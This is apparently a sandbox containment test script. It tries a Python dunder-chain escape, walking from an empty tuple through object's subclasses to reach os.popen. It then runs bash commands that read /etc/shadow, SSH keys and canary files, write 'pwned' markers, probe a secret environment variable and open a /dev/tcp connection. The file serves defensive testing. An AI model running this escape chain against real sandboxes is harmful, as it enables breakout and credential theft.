"""Python-level escape through dunder chains: from an empty tuple to object's subclasses, to
a class whose function globals hold ``os`` and ``subprocess``, then run shell commands that
try the host's secrets, network and file system. Whatever the chain reaches is still inside.

verdict: ok
"""
import os as _os_for_env_only

env = _os_for_env_only.environ
subclasses = ().__class__.__base__.__subclasses__()
found = {}
for cls in subclasses:
    init = cls.__dict__.get("__init__")
    glb = getattr(init, "__globals__", None)
    if not glb:
        continue
    if "system" in glb and "popen" in glb and "os" not in found:
        found["os"] = glb
    if "Popen" in glb and "subprocess" not in found:
        found["subprocess"] = glb
print("reached:", sorted(found), "from", len(subclasses), "subclasses")
if "os" not in found:
    raise SystemExit("the chain did not reach os (the attack did not run)")
osmod = found["os"]
cmd = (f"id; cat /etc/shadow; ls {env['SSH_DIR']}; cat {env['BLOB_PATH']}; "
       f"cat {env['CANARY_DIR']}/host-canary.txt; "
       f"echo pwned > {env['CANARY_DIR']}/{env['MARKER']}-dunder; "
       f"echo pwned > /{env['MARKER']}-dunder; env | grep -c {env['SECRET_ENV_NAME']}=; "
       f"(echo x > /dev/tcp/127.0.0.1/{env['TCP_PORT']}) 2>&1; echo end")
pipe = osmod["popen"](f"/bin/bash -c '{cmd}' 2>&1")
out = pipe.read()
print(out)
if "uid=0" in out:
    print("ESCAPED: root through the dunder chain")
print("COMPLETE")
